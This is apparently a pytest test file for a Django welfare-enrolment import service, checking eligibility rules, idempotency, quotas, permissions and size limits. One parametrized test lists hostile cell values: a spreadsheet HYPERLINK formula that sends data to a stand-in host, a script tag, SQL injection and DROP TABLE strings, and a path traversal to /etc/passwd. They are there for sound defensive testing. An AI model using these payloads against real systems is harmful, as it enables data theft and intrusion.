"""Enrolment by import: every row behind the red light, errors by row and column, one
transaction, idempotent; bad, hostile or oversized files change nothing."""

from __future__ import annotations

import io
from datetime import date
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from smartkampung.accounts.models import Role
from smartkampung.accounts.testing import assert_refused_unchanged, snapshot_rows
from smartkampung.audit.models import AuditEvent
from smartkampung.core.exceptions import DomainError, NotFound, PermissionDenied, TooLarge
from smartkampung.welfare import services
from smartkampung.welfare.models import Enrolment, EnrolmentStatus
from smartkampung.welfare.rules import Rule
from smartkampung.welfare.services import EnrolmentImportRefused

from .conftest import PERIOD, SARONGAN

pytestmark = pytest.mark.django_db

HEADER = "programme_code,period,nik,kk_number,village_code"


def _line(family: dict[str, Any], **overrides: Any) -> str:
    values = {
        "programme_code": "PKH",
        "period": PERIOD,
        "nik": family["head"].nik,
        "kk_number": family["kk"],
        "village_code": SARONGAN,
    }
    values.update(overrides)
    return ",".join(str(values[k]) for k in HEADER.split(","))


def _csv(*lines: str, header: str = HEADER) -> bytes:
    return ("\n".join([header, *lines]) + "\n").encode()


def _unchanged() -> list[Any]:
    return snapshot_rows(Enrolment, AuditEvent)


def _refused(actor: Any, data: bytes, errors: Any = (DomainError,)) -> Any:
    return assert_refused_unchanged(
        lambda: services.enrolment_import(actor=actor, data=data),
        snapshot=_unchanged,
        errors=errors,
    )


@pytest.fixture
def poor(make_family, make_programme, in_register) -> list[dict[str, Any]]:
    families = [make_family(), make_family(), make_family()]
    in_register(*[(f, 3) for f in families])
    make_programme()
    return families


def test_a_file_enrols_every_row_and_importing_it_again_changes_nothing(poor, operator) -> None:
    data = _csv(*[_line(f) for f in poor])
    result = services.enrolment_import(actor=operator, data=data, file_name="pkh.csv")
    assert (result.rows, result.created, result.review, result.unchanged) == (3, 3, 0, 0)
    enrolled = Enrolment.objects.filter(period=PERIOD, status=EnrolmentStatus.ACTIVE)
    assert sorted(enrolled.values_list("household_id", flat=True)) == sorted(
        f["household_id"] for f in poor
    )
    assert set(enrolled.values_list("created_by", flat=True)) == {operator.pk}
    event = AuditEvent.objects.get(action="welfare.enrolment_import")
    assert poor[0]["kk"] not in event.data_json and poor[0]["head"].nik not in event.data_json
    before = snapshot_rows(Enrolment)
    again = services.enrolment_import(actor=operator, data=data)
    assert (again.created, again.review, again.unchanged) == (0, 0, 3)
    assert snapshot_rows(Enrolment) == before


def test_one_refused_row_refuses_the_file_with_its_rule_and_column(
    poor, make_family, in_register, operator
) -> None:
    rich = make_family()
    in_register((rich, 9))
    unknown = "3510014107990001"
    data = _csv(_line(poor[0]), _line(rich), _line(poor[1], nik=unknown))
    exc = _refused(operator, data, (EnrolmentImportRefused,))
    assert [(e["row"], e["column"], e["rules"]) for e in exc.details] == [
        (3, "", [Rule.DECILE_ABOVE_CEILING]),
        (4, "nik", [Rule.UNKNOWN_PERSON]),
    ]
    assert exc.code == "enrolment_import_invalid"


def test_a_dead_resident_or_a_household_of_another_village_is_refused(
    poor, social, register_admin
) -> None:
    from smartkampung.population import services as population

    population.death_record(
        actor=register_admin, resident=poor[0]["head"], occurred_on=date(2026, 2, 1)
    )
    data = _csv(_line(poor[0]), _line(poor[1], village_code="35.10.01.2002"))
    exc = _refused(social, data, (EnrolmentImportRefused,))
    assert [(e["row"], e["column"], e["rules"]) for e in exc.details] == [
        (2, "nik", [Rule.DEAD]),
        (3, "village_code", [Rule.LIVES_ELSEWHERE]),
    ]


def test_duplicated_rows_refuse_the_file(poor, operator, make_family, in_register) -> None:
    exc = _refused(operator, _csv(_line(poor[0]), _line(poor[1]), _line(poor[0])))
    assert [(e["row"], e["column"]) for e in exc.details] == [(4, "nik")]
    assert "2" in exc.details[0]["message"]
    # Two members of one household, for a household programme: the same recipient twice.
    family = make_family(children=[date(2010, 5, 5)])
    in_register((family, 2))
    child = family["members"][1]
    exc = _refused(operator, _csv(_line(family), _line(family, nik=child.nik)))
    assert [(e["row"], e["rules"]) for e in exc.details] == [(3, [Rule.ALREADY_ENROLLED])]


def test_a_file_over_the_quota_is_refused(poor, social, operator) -> None:
    from smartkampung.welfare.models import AidProgramme

    programme = AidProgramme.objects.get(code="PKH")
    services.quota_set(actor=social, programme=programme, village_code=SARONGAN, quota=2)
    exc = _refused(operator, _csv(*[_line(f) for f in poor]))
    assert [(e["row"], e["rules"]) for e in exc.details] == [(4, [Rule.QUOTA_FULL])]


def test_a_likely_duplicate_without_nik_is_enrolled_held_for_review(
    make_family, make_programme, in_register, operator
) -> None:
    original = make_family(head_name="Siti Aminah", head_birth=date(1975, 8, 17))
    copy = make_family(head_name="Siti Aminah", head_birth=date(1975, 8, 17))
    in_register((original, 2), (copy, 2))
    make_programme()
    result = services.enrolment_import(
        actor=operator, data=_csv(_line(original), _line(copy, nik=""))
    )
    assert (result.created, result.review) == (1, 1)
    held = Enrolment.objects.get(household_id=copy["household_id"])
    assert held.status == EnrolmentStatus.REVIEW
    assert held.findings[0]["code"] == Rule.LIKELY_DUPLICATE


@pytest.mark.parametrize(
    ("data", "column"),
    [
        (b"", None),
        (b"\x00\x01\x02binary\xff\xfe", None),
        (b"PK\x03\x04not really a spreadsheet", None),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1old excel", None),
        (HEADER.encode() + b"\n", None),
        (b"programme_code,period,nik\nPKH,2026-03,1\n", None),  # missing columns
        (b"programme_code,period,nik,kk_number,village_code,secret\n", None),
        (b"programme_code,period,nik,nik,kk_number,village_code\n", None),
        ("PKH,2026-13,{nik},{kk},35.10.01.2001", "period"),
        ("PKH,,{nik},{kk},35.10.01.2001", "period"),
        ("PKH,2026-03,351001,{kk},35.10.01.2001", "nik"),
        ("PKH,2026-03,,,35.10.01.2001", "nik"),
        ("PKH,2026-03,{nik},12345678901234567,35.10.01.2001", "kk_number"),
        ("PKH,2026-03,{nik},{kk},35.10.01.9999", "village_code"),
        ("PKH,2026-03,{nik},{kk},35.10.01.2001,extra", ""),
        ("NOPE,2026-03,{nik},{kk},35.10.01.2001", "programme_code"),
    ],
)
def test_malformed_files_and_rows_change_nothing(poor, operator, data, column) -> None:
    if isinstance(data, str):
        data = _csv(data.format(nik=poor[0]["head"].nik, kk=poor[0]["kk"]))
    exc = _refused(operator, data)
    if column is not None:
        assert isinstance(exc, EnrolmentImportRefused)
        assert exc.details[0]["row"] == 2 and exc.details[0]["column"] == column


@pytest.mark.parametrize(
    "cells",
    [
        '=HYPERLINK("http://evil.example/?x="&A1),2026-03,{nik},{kk},35.10.01.2001',
        "PKH,2026-03,{nik},{kk},<script>alert(1)</script>",
        "PKH,2026-03,{nik}' OR '1'='1,{kk},35.10.01.2001",
        "PKH,2026-03,../../etc/passwd,{kk},35.10.01.2001",
        "PKH,2026-03,{nik},{kk},35.10.01.2001 ; DROP TABLE welfare_enrolment",
    ],
)
def test_hostile_content_is_refused_and_changes_nothing(poor, operator, cells) -> None:
    data = _csv(cells.format(nik=poor[0]["head"].nik, kk=poor[0]["kk"]))
    exc = _refused(operator, data, (EnrolmentImportRefused,))
    assert exc.details[0]["row"] == 2
    assert Enrolment.objects.count() == 0


def test_a_hostile_name_without_nik_is_refused(poor, operator) -> None:
    header = HEADER + ",name,birth_date"
    line = _line(poor[0], nik="") + ',"Siti\x1b[31m Aminah",1975-08-17'
    exc = _refused(operator, _csv(line, header=header), (EnrolmentImportRefused,))
    assert exc.details[0]["column"] == "name"


def test_an_oversized_file_or_too_many_rows_is_refused(poor, operator, settings) -> None:
    data = _csv(*[_line(f) for f in poor])
    settings.SK_WELFARE_ENROLMENT_IMPORT_MAX_BYTES = len(data) - 1
    _refused(operator, data, (TooLarge,))
    settings.SK_WELFARE_ENROLMENT_IMPORT_MAX_BYTES = 10 * 1024 * 1024
    settings.SK_WELFARE_ENROLMENT_IMPORT_MAX_ROWS = 2
    _refused(operator, data)


def test_an_xlsx_file_enrols_like_a_csv(poor, operator) -> None:
    import openpyxl

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["kode_program", "periode", "nik", "no_kk", "kode_desa"])
    for f in poor:
        sheet.append(["PKH", PERIOD, f["head"].nik, f["kk"], SARONGAN])
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = services.enrolment_import(actor=operator, data=buffer.getvalue())
    assert result.created == 3


def test_rows_for_a_village_outside_the_scope_change_nothing(poor, other_operator) -> None:
    exc = _refused(other_operator, _csv(_line(poor[0])), (EnrolmentImportRefused,))
    assert exc.details[0]["column"] == "village_code"


@pytest.mark.parametrize("kind", ["anonymous", "citizen", "treasurer", "camat"])
def test_who_may_not_import_changes_nothing(poor, kind, make_user, camat) -> None:
    from django.contrib.auth.models import AnonymousUser

    actor: Any = {
        "anonymous": AnonymousUser(),
        "citizen": make_user("warga"),
        "treasurer": make_user("bendahara", roles=[(Role.VILLAGE_TREASURER, SARONGAN)]),
        "camat": camat,
    }[kind]
    _refused(actor, _csv(_line(poor[0])), (PermissionDenied, NotFound))


def test_the_social_office_imports_for_any_village(poor, social) -> None:
    result = services.enrolment_import(actor=social, data=_csv(_line(poor[0])))
    assert result.created == 1


# --- page and API -------------------------------------------------------------------------------


def test_the_page_enrols_and_shows_errors_by_row_in_both_languages(
    poor, operator, login_client
) -> None:
    client = login_client(operator)
    url = "/welfare/enrol/import/"
    page = client.get(url)
    assert page.status_code == 200 and "Daftarkan penerima dari berkas" in page.content.decode()
    bad = _csv(_line(poor[0], period="2026-13"), _line(poor[1], village_code="<b>x</b>"))
    before = _unchanged()
    r = client.post(url, {"file": SimpleUploadedFile("e.csv", bad, content_type="text/csv")})
    body = r.content.decode()
    assert r.status_code == 400 and "tidak ada yang didaftarkan" in body
    assert "<b>x</b>" not in body and _unchanged() == before
    client.cookies["sk_language"] = "en"
    r = client.post(url, {"file": SimpleUploadedFile("e.csv", bad, content_type="text/csv")})
    assert "nobody was enrolled" in r.content.decode() and "Enrol recipients from a file" in (
        r.content.decode()
    )
    good = _csv(*[_line(f) for f in poor])
    r = client.post(url, {"file": SimpleUploadedFile("e.csv", good)}, follow=True)
    assert r.redirect_chain[-1][0].endswith("/welfare/enrolments/")
    assert "3 enrolled" in r.content.decode()
    assert Enrolment.objects.count() == 3


def test_the_page_is_not_found_for_whoever_may_not_enrol(poor, camat, login_client) -> None:
    assert login_client(camat).get("/welfare/enrol/import/").status_code == 404


def test_the_api_enrols_and_reports_errors_as_json(poor, operator, login_client) -> None:
    client = login_client(operator)
    url = "/api/v1/welfare/enrolments/import"
    before = _unchanged()
    bad = _csv(_line(poor[0], nik="1"))
    r = client.post(url, {"file": SimpleUploadedFile("e.csv", bad)})
    assert r.status_code == 422 and r.json()["code"] == "enrolment_import_invalid"
    assert r.json()["details"][0] == {
        "row": 2,
        "column": "nik",
        "message": r.json()["details"][0]["message"],
        "rules": [],
    }
    r = client.post(url, {"file": SimpleUploadedFile("e.bin", b"\x00\xff" * 10)})
    assert r.status_code in (400, 422) and "code" in r.json()
    assert _unchanged() == before
    good = _csv(*[_line(f) for f in poor])
    r = client.post(url, {"file": SimpleUploadedFile("e.csv", good)})
    assert r.status_code == 201, r.content
    assert r.json() == {"rows": 3, "created": 3, "review": 0, "unchanged": 0}
